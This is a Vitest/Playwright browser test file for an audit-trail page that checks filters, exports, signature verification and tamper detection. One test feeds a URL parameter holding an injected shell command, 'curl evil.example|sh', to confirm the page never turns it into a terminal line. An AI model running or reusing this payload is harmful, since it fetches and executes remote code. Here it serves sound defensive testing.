// /app/audit as people use it: what a tier or a role has not, what the address says, one call in the drawer, and the log as a file.
import { describe, expect, it } from 'vitest'
import { changeAnswers, saved } from '../support/browser/acts.ts'
import { ownerOn, pageOf, service } from '../support/browser/browser.ts'
import { open, settled } from '../support/browser/pages.ts'
import { shiftOf } from '../support/browser/visitor.ts'

const { owner } = service.filled

describe('the audit trail', () => {
  it('says calmly which tiers have all of it, requests nothing that the tier lacks, and exports the log', async () => {
    const page = await pageOf(ownerOn('pro'))
    const refused: string[] = []
    page.on('response', (response) => response.status() === 403 && refused.push(response.url()))
    await page.goto('/app/audit')
    await expect.poll(() => page.locator('.notice').innerText()).toContain('healthcare, enterprise')
    await settled(page)
    expect(refused).toEqual([])
    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
    await page.getByText('Export the log').click()
    const lines = (await saved(page, 'Save as JSON lines')).text.trim().split('\n')
    expect(JSON.parse(lines.at(-1) ?? '')).toMatchObject({ object: 'audit_export.end' })
    await expect.poll(() => page.getByText('Saved:').innerText()).toContain('It is whole')
  })

  it('waits for the names of its keys, so that nothing jumps once they are there', async () => {
    const page = await pageOf(owner)
    const named = Promise.withResolvers<void>()
    await page.route('**/api/keys?*', async (route) => {
      await named.promise
      await route.continue()
    })
    const trail = page.waitForResponse((response) => response.url().includes('/api/calls'))
    await page.goto('/app/audit')
    await (await trail).finished()
    await expect.poll(() => page.locator('.skeleton').count()).toBeGreaterThan(0)
    named.resolve()
    await settled(page)
    await expect.poll(() => page.getByRole('table').innerText()).not.toMatch(/key_[\da-f]{8}-/)
    expect(await shiftOf(page)).toBeLessThan(0.02)
  })

  it('shows a colleague the same calls by its address, and goes back by the button of the browser', async () => {
    const page = await open(owner, '/app/audit')
    await page.getByLabel('Outcome').selectOption('blocked')
    await page.getByRole('button', { name: 'Apply' }).click()
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=blocked')
    await settled(page)
    await expect
      .poll(() =>
        page
          .locator('tbody .outcome')
          .allInnerTexts()
          .then((all) => new Set(all)),
      )
      .toEqual(new Set(['Blocked']))
    await page.goBack()
    await settled(page)
    await expect.poll(() => page.locator('tbody .outcome', { hasText: 'Passed' }).count()).toBeGreaterThan(0)
    await expect.poll(() => page.getByLabel('Outcome').inputValue()).toBe('')
  })

  it('asks for no days that are in no order', async () => {
    const page = await open(owner, '/app/audit')
    await page.getByLabel('From').fill('2026-11-20')
    await page.getByLabel('To', { exact: true }).fill('2026-11-01')
    await page.getByRole('button', { name: 'Apply' }).click()
    await page.locator('input:invalid').first().waitFor()
    expect(new URL(page.url()).search).toBe('')
    await page.getByLabel('To', { exact: true }).fill('2026-11-20')
    await page.getByRole('button', { name: 'Apply' }).click()
    await expect.poll(() => new URL(page.url()).search).toBe('?from=2026-11-20&to=2026-11-20')
  })

  it('opens a call with its record, proofs and cost, checked here, and gives the focus back', async () => {
    const page = await open(owner, '/app/audit?outcome=passed&use_case=triage-notes')
    const first = page.locator('tbody a').first()
    await first.click()
    const drawer = page.getByRole('dialog')
    await expect.poll(() => drawer.getByRole('status').allInnerTexts()).toEqual(['valid'])
    expect(new URL(page.url()).searchParams.get('id')).toMatch(/^[0-9a-f-]{36}$/)
    for (const part of ['Cost', 'Signed as', 'In the public log']) {
      await drawer.getByText(part).first().waitFor()
    }
    await page.keyboard.press('Escape')
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&use_case=triage-notes')
    await page.locator('tbody tr:first-child a:focus').waitFor()
  })

  it('finds that a record was changed on its way', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/calls\/[0-9a-f-]{36}$/, async (route) => {
      const response = await route.fetch({ maxRetries: 2 })
      const body = (await response.text()).replace('"outcome":"ALLOWED"', '"outcome":"BLOCKED"')
      await route.fulfill({ response, body })
    })
    await open(page, '/app/audit?outcome=passed&use_case=triage-notes')
    await page.locator('tbody a').first().click()
    const here = page.getByRole('region', { name: 'Checked here, in this browser' })
    await expect.poll(() => here.getByRole('status').innerText()).toBe('not valid')
  })

  it('contradicts a trail that says otherwise of a call than its signed record', async () => {
    const page = await pageOf(owner)
    await changeAnswers<{ data: object[] }>(page, /\/api\/calls\?/, (body) => ({
      ...body,
      data: body.data.map((entry) => ({ ...entry, model: 'another-model' })),
    }))
    await page.goto('/app/audit?outcome=passed&use_case=triage-notes')
    await page.locator('tbody a').first().click()
    const here = page.getByRole('region', { name: 'Checked here, in this browser' })
    await expect.poll(() => here.getByRole('status').innerText()).toBe('not valid')
    await expect.poll(() => here.innerText()).toContain('The list differs from what is signed: model.')
  })

  it('opens a call by its link, however long before the calls of the list it was', async () => {
    const page = await pageOf(owner)
    await page.goto('/app/audit?outcome=passed')
    await page.locator('tbody a').last().click()
    const drawer = page.getByRole('dialog')
    const known = drawer.getByRole('region', { name: 'How it ended' })
    const told = await known.innerText()
    expect(told).toMatch(/Answered by\s+\S/)
    // As a colleague has it a year later: the list has come to other days.
    await page.goto(`${page.url()}&from=2024-01-01&to=2024-01-02`)
    await expect.poll(() => known.innerText()).toBe(told)
    await drawer.getByRole('button', { name: 'Close' }).click()
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&from=2024-01-01&to=2024-01-02')
  })

  it('says whether content was kept only once somebody asks to read it', async () => {
    const page = await pageOf(owner)
    let asked = 0
    page.on('request', (request) => (asked += Number(request.url().includes('/compliance/content/'))))
    await open(page, '/app/audit')
    await page.locator('tbody a').first().click()
    const read = page.getByRole('button', { name: 'Read it, and have that written down' })
    await read.waitFor()
    expect(asked).toBe(0)
    await read.click()
    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('This call has no stored content')
  })

  it('says that there is more to look through where a page of the log had nothing', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/calls\?(?!.*cursor)/, (route) =>
      route.fulfill({
        json: { object: 'list', data: [], has_more: true, next_cursor: '900', unreadable_entries: 2 },
      }),
    )
    await page.goto('/app/audit')
    await expect.poll(() => page.locator('main').innerText()).toContain('2 entries of the log cannot be read')
    await page.getByRole('button', { name: 'Look further' }).click()
    await page.locator('tbody tr').first().waitFor()
  })

  it('says of a file without its last line that it is not whole', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/compliance\/audit-logs/, (route) =>
      route.fulfill({ body: '{"object":"audit_export.head"}\n', contentType: 'application/x-ndjson' }),
    )
    await page.goto('/app/audit')
    await page.getByText('Export the log').click()
    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
    await expect.poll(() => page.getByText('Saved:').innerText()).toContain('it is not whole')
  })

  it('puts into no line for a terminal what somebody wrote into the address', async () => {
    const page = await pageOf(owner)
    await page.goto(`/app/audit?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
    await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
  })

  it('goes on with the next part where these days have more leaves than one file', async () => {
    const page = await pageOf(owner)
    const cursors: (string | null)[] = []
    await page.route(/\/api\/compliance\/audit-logs/, (route) => {
      const cursor = new URL(route.request().url()).searchParams.get('cursor')
      cursors.push(cursor)
      const end = {
        object: 'audit_export.end',
        entries: 3,
        withheld: 0,
        next_cursor: cursor === null ? '1000000' : null,
      }
      return route.fulfill({ body: `${JSON.stringify(end)}\n`, contentType: 'application/x-ndjson' })
    })
    await page.goto('/app/audit')
    await page.getByText('Export the log').click()
    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
    await page.getByRole('button', { name: 'Save the next part' }).click()
    await expect.poll(() => page.getByRole('button', { name: 'Save the next part' }).count()).toBe(0)
    expect(cursors).toEqual([null, '1000000'])
  })

  it('shows the key that the address narrows the calls down to, where its name cannot be had', async () => {
    const page = await pageOf(owner)
    await page.route('**/api/keys?*', (route) => route.abort())
    const key = 'key_0198f3a0-5b7e-7c41-9d1e-2f6a8c0b4d11'
    await open(page, `/app/audit?key=${key}`)
    await expect.poll(() => page.getByLabel('Key', { exact: true }).inputValue()).toBe(key)
  })
})
